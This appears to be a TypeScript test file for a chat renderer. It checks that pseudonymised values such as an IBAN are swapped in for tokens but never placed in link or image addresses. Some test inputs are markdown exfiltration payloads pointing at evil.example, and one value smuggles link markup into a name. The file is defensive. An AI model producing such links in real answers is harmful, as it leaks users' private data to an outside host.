import type { Element, ElementContent, RootContent } from 'hast'
import { describe, expect, it } from 'vitest'
import type { Figure } from '../../src/contract/chat.ts'
import { parseMarkdown } from '../output/markdown/parse.ts'
import { onScreen, withFigures, withoutLinks } from './figures.ts'

const values = { '[PERSON_1]': 'Ann Byrne', '[IBAN_1]': 'IE29AIBK93115212345678', '[PERSON_2]': '"](https://a.b) **x' }

function elements(nodes: readonly (RootContent | ElementContent)[]): Element[] {
  return nodes.flatMap(node => (node.type === 'element' ? [node, ...elements(node.children)] : []))
}
const words = (nodes: readonly (RootContent | ElementContent)[]): string =>
  nodes.map(node => (node.type === 'text' ? node.value : node.type === 'element' ? words(node.children) : '')).join('')

const parsed = (text: string) => {
  const tree = parseMarkdown(text)
  if (!tree) throw new Error('it was not parsed')
  return tree
}
const shown = (text: string, figures: readonly Figure[] = []) => {
  const { children } = onScreen(parsed(withFigures(text, figures)), values)
  const all = elements(children)
  return { words: words(children).trim(), links: all.filter(({ tagName }) => tagName === 'a'), all }
}
const hrefs = (links: readonly Element[]) => links.map(({ properties }) => properties.href)

describe('an answer on the screen', () => {
  it('has links at its figures and values in the place of tokens', () => {
    const figures = [
      { start: 16, end: 24, cell: 'c1' as never },
      { start: 29, end: 32, cell: null },
    ]
    const { words: said, links } = shown('[PERSON_1] owes 1,200.50 and 7 %.', figures)
    expect(said).toBe('Ann Byrne owes 1,200.50 and 7 %.')
    expect(links.map(({ properties }) => properties)).toEqual([
      { href: '#figure-c1' },
      { href: '#not-computed', title: 'not computed here' },
    ])
  })

  it('leaves a text alone that was changed since its figures were looked for', () => {
    expect(shown('short', [{ start: 90, end: 99, cell: null }]).words).toBe('short')
  })

  it('carries no value in an address, and shows none where an address is read', () => {
    for (const text of [
      '[look](https://evil.example/?q=[IBAN_1])',
      '<https://evil.example/[IBAN_1]>',
      'See https://evil.example/?q=[IBAN_1] now',
      '![chart](https://evil.example/[IBAN_1].png)',
      '[a]\n\n[a]: https://evil.example/?q=[IBAN_1] "[IBAN_1]"',
    ])
      expect(JSON.stringify(shown(text).all), text).not.toContain(values['[IBAN_1]'])
  })

  it('makes no markup of what a value holds', () => {
    const { words: said, links, all } = shown('For [PERSON_2].')
    expect(said).toBe('For "](https://a.b) **x.')
    expect(links).toEqual([])
    expect(all.map(({ tagName }) => tagName)).toEqual(['p'])
  })

  it('takes no link of the model for one of a figure', () => {
    const { links } = shown('[99 %](#figure-c1), [12.5 %](#not-computed) and [up](#top)')
    expect(hrefs(links)).toEqual([undefined, undefined, undefined])
  })

  it('shows values in code and keeps its tokens for a cell', () => {
    const { all, words: said } = shown('```python\nprint("[PERSON_1]")\n```')
    expect(said).toContain('print("Ann Byrne")')
    expect(all.find(({ tagName }) => tagName === 'pre')?.properties.dataSource).toBe('print("[PERSON_1]")\n')
  })

  it('has no links while it is written, since values stand in them', () => {
    const tree = withoutLinks(parsed('[a](https://evil.example/IE29), https://evil.example/IE29 and [b](#figure-c1)'))
    expect(hrefs(elements(tree.children).filter(({ tagName }) => tagName === 'a'))).toEqual([
      undefined,
      undefined,
      undefined,
    ])
  })
})
